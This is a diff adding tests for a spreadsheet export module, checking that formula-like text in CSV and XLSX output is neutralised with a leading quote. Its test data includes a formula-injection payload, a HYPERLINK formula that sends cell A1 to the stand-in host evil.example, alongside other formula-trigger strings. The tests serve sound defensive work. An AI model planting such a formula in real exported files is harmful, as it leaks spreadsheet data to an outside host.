@@ -1,5 +1,5 @@
 import ExcelJS from 'exceljs';
-import { csvField, toCsv, toXlsx, type ExportTable } from './compliance-export.js';
+import { csvField, spreadsheetText, toCsv, toXlsx, type ExportTable } from './compliance-export.js';
 
 const table: ExportTable<{ name: string; n: number; rate: number | null; at: string }> = {
   title: 'Theo đơn vị',
@@ -58,5 +58,55 @@ describe('compliance export', () => {
     expect(sheet.getCell('B2').value).toBe(3);
     expect(sheet.getCell('C2').numFmt).toBe('0.0%');
     expect(sheet.getCell('D2').value).toEqual(new Date('2026-12-04T03:00:00.000Z'));
+  });
+});
+
+describe('spreadsheet formula neutralising', () => {
+  const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
+  const risky = [hostile, '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '\rcmd', '-5 ngày'];
+  const injected: ExportTable<{ text: string; n: number }> = {
+    title: '=Sheet',
+    columns: [
+      { header: '=Tiêu đề', width: 30, value: (row) => row.text },
+      { header: 'Số', width: 6, type: 'number', value: (row) => row.n },
+    ],
+    rows: risky.map((text) => ({ text, n: -5 })),
+  };
+
+  it('should prefix text that a spreadsheet would read as a formula with a quote', () => {
+    for (const text of risky) expect(spreadsheetText(text)).toBe(`'${text}`);
+    expect(spreadsheetText('Xã Hồng Quang')).toBe('Xã Hồng Quang');
+    expect(spreadsheetText('')).toBe('');
+    expect(spreadsheetText(-5)).toBe(-5);
+    expect(spreadsheetText(0.25)).toBe(0.25);
+    expect(spreadsheetText(null)).toBeNull();
+  });
+
+  it('should write no CSV cell that starts a formula, and keep real numbers as numbers', () => {
+    const lines = toCsv([injected])
+      .replace(/^\uFEFF/, '')
+      .split('\r\n');
+    expect(lines[0]).toBe("'=Tiêu đề,Số");
+    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"")",-5`);
+    expect(lines.slice(2, 8)).toEqual([
+      "'+1+1,-5",
+      "'-2+3,-5",
+      "'@SUM(A1:A2),-5",
+      "'\tcmd,-5",
+      `"'\rcmd",-5`,
+      "'-5 ngày,-5",
+    ]);
+  });
+
+  it('should write no XLSX cell that starts a formula, and keep real numbers as numbers', async () => {
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load((await toXlsx([injected])) as never);
+    const sheet = workbook.worksheets[0];
+    expect(sheet.getCell('A1').value).toBe("'=Tiêu đề");
+    risky.forEach((text, index) => {
+      // XML reads a carriage return back as a line feed; what matters is the leading quote.
+      expect(sheet.getCell(`A${index + 2}`).value).toBe(`'${text}`.replace(/\r/g, '\n'));
+      expect(sheet.getCell(`B${index + 2}`).value).toBe(-5);
+    });
   });
 });
